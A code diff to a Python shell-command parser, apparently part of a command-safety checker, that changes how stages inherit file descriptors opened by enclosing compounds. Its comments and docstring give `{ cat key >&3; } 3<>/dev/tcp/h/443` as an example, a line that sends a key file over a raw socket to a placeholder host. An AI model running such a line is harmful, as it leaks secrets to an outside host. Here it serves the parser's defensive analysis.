@@ -43,8 +43,9 @@ class Stage:
     # a compound's stdin redirection (`while read l; do ...; done < f`, `{ ...; } <<EOF`), on
     # the stages of its body that read the compound's stdin: see around
     stdin_from: tuple[str, str] | None = None
-    # the descriptors compounds around it open (`{ cat key >&3; } 3<>/dev/tcp/h/443`), outer first
-    inherits: list[tuple[str, str]] = field(default_factory=list)
+    # the descriptors compounds around it open (`{ cat key >&3; } 3<>/dev/tcp/h/443`): one
+    # tuple of redirections per compound, outer first (shared by the stages of its body)
+    inherits: tuple[tuple[tuple[str, str], ...], ...] = ()
 
 
 @dataclass
@@ -133,10 +134,10 @@ def around(pipelines: list[list[Stage]], first: tuple[int, int], into: tuple[str
     each had it all: fail closed); a nested compound's own, marked before (its body is
     walked first), stands. ``opens``, the descriptors it opens (``3<>/dev/tcp/h/443``), are
     every body command's to duplicate (``>&3``)."""
-    p, k = first
+    p, k, layer = *first, tuple(opens)
     for n in range(p, len(pipelines)):
         stages = pipelines[n][k if n == p else 0:]
         if into is not None and stages and stages[0].stdin_from is None:
             stages[0].stdin_from = into
         for st in stages if opens else ():
-            st.inherits = opens + st.inherits
+            st.inherits = (layer, *st.inherits)
